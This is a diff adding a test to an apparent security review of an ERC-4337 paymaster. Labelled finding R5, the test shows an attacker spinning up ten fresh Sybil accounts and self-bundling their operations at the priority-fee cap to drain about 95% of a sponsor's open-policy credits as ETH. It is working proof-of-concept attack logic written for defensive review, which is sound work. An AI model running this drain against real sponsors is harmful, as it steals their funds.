@@ -317,3 +317,63 @@ describe("Review: POLICY mode through the EntryPoints", function () {
     });
   }
 });
+
+/**
+ * R5 (finding, economic): an open policy (no signer) is a budget any stranger can take, and take as ETH. Fresh
+ * counterfactual accounts cost nothing (their deployment is paid by the sponsor too), so per-user limits do not bind
+ * a Sybil; an attacker that bundles its own operations at the priority-fee cap keeps the priority fee. With a low
+ * base fee (an L2, or a quiet L1), nearly the whole value of the sponsor's burned credits comes out as ETH.
+ */
+describe("Review: an open policy drained as ETH by a self-bundling Sybil", function () {
+  it("R5: ten fresh senders within every per-user limit move ~95% of the credits' value to the attacker's EOA", async function () {
+    const sys = await deploySystem("0.7");
+    const dapp = await sys.dapp.getAddress();
+    await buyCredits(sys, sys.dapp, dapp, parseEther("1"));
+    const cap = (await sys.paymaster.config()).maxPriorityFeePerGas;
+    // Per-user limits as a careful sponsor would set them: one operation per user per day.
+    await (
+      await sys.ledger
+        .connect(sys.dapp)
+        .createPolicy(await terms({ opsPerUser: 1n, creditsPerUser: 50n * CREDIT }), Number(DAY))
+    ).wait();
+    const attacker = sys.outsider;
+    const who = await attacker.getAddress();
+    const baseFee = 10_000_000n; // 0.01 gwei
+    const ops: PackedUserOperation[] = [];
+    for (let i = 0n; i < 10n; i++) {
+      const user = await newUser(sys, 96_000n + i);
+      ops.push(
+        await policyOp(sys, user, dapp, 1n, {
+          callData: encodeExecute(
+            await sys.target.getAddress(),
+            0n,
+            sys.target.interface.encodeFunctionData("burnAll"),
+          ),
+          callGasLimit: 1_000_000n,
+          maxPriorityFeePerGas: cap,
+          maxFeePerGas: baseFee + cap,
+        }),
+      );
+    }
+    const creditsBefore = await sys.ledger.balanceOfCredits(dapp);
+    const ethBefore = await ethers.provider.getBalance(who);
+    await ethers.provider.send("hardhat_setNextBlockBaseFeePerGas", [ethers.toQuantity(baseFee)]);
+    const tx = await sys.entryPoint
+      .connect(attacker)
+      .handleOps(ops, who, { maxPriorityFeePerGas: 0n, maxFeePerGas: baseFee, gasLimit: 15_000_000n });
+    const receipt = (await tx.wait())!;
+    const gained = (await ethers.provider.getBalance(who)) - ethBefore;
+    const burned = creditsBefore - (await sys.ledger.balanceOfCredits(dapp));
+    const deposit = receipt.logs
+      .map((l) => (l.address === sys.entryPoint.target ? sys.entryPoint.interface.parseLog(l) : null))
+      .filter((p) => p?.name === "UserOperationEvent")
+      .reduce((s, p) => s + (p!.args.actualGasCost as bigint), 0n);
+    // The value of the burned credits in wei at the validation price and markup (credits = wei × price × markup).
+    const { priceWad } = await sys.adapter.cachedPrice();
+    const burnedWei = (burned * 10n ** 34n) / (priceWad * MARKUP);
+    expect(burned).to.be.gt(0n);
+    expect(deposit).to.be.lte(burnedWei); // solvent, as issue 11 requires ...
+    // ... but 94% or more of what the sponsor paid is now the attacker's ETH.
+    expect((gained * 100n) / burnedWei).to.be.gte(94n);
+  });
+});
